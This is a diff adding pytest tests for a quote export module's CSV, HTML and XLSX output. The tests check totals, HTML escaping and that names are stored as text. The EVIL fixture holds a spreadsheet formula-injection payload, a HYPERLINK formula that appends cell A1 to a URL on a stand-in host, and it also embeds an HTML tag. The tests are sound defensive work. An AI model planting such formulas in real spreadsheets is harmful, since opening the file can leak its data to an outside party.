@@ -0,0 +1,45 @@
+import csv
+import io
+
+import pytest
+
+import quote_export
+import quote_service
+from catalogs import get_catalog
+
+EVIL = '=HYPERLINK("http://x.test/?"&A1,"<b>Acme</b>")'
+
+
+@pytest.fixture(scope="module")
+def model():
+    cat = get_catalog()
+    quote = {"biz_name": EVIL, "rep_name": "+1 & <Dana>", "tax_rate": 8.25,
+             "lines": [{"features": [next(iter(cat.addons))]}, {"type": "Tablet", "plan": cat.plans_by_type["Tablet"][0]}]}
+    return quote_export.from_quote(quote_service.normalize(quote, cat), cat)
+
+
+def test_csv(model):
+    rows = list(csv.DictReader(io.StringIO(quote_export.to_csv(model).decode())))
+    lines = [r for r in rows if r["section"] == "line"]
+    assert [r["line"] for r in lines] == ["1", "2"] and lines[0]["add_ons"] == ";".join(model["lines"][0]["add_ons"])
+    assert float(lines[0]["amount"]) == pytest.approx(model["lines"][0]["line_total"])
+    mrc = next(r for r in rows if r["item"] == "Monthly Recurring Charges")
+    assert float(mrc["amount"]) == pytest.approx(model["mrc"], abs=0.005)
+
+
+def test_html_escapes_user_text(model):
+    page = quote_export.to_html(model).decode()
+    assert "<b>Acme</b>" not in page and "&lt;b&gt;Acme&lt;/b&gt;" in page
+    assert "+1 &amp; &lt;Dana&gt;" in page and quote_export.money(model["lines"][0]["line_total"]) in page
+
+
+def test_xlsx_stores_names_as_text(model):
+    openpyxl = pytest.importorskip("openpyxl")
+    wb = openpyxl.load_workbook(io.BytesIO(quote_export.to_xlsx(model)))
+    header = {c.value: c for c, in wb["Summary"].iter_rows(min_col=1, max_col=1, max_row=3)}
+    for label, value in (("Prepared for", EVIL), ("Prepared by", "+1 & <Dana>")):
+        cell = wb["Summary"].cell(header[label].row, 2)
+        assert cell.value == value and cell.data_type == "s"
+    lines = list(wb["Lines"].iter_rows(values_only=True))
+    assert lines[0] == quote_export.LINE_COLUMNS and len(lines) == 3
+    assert lines[1][quote_export.LINE_COLUMNS.index("line_total")] == pytest.approx(model["lines"][0]["line_total"])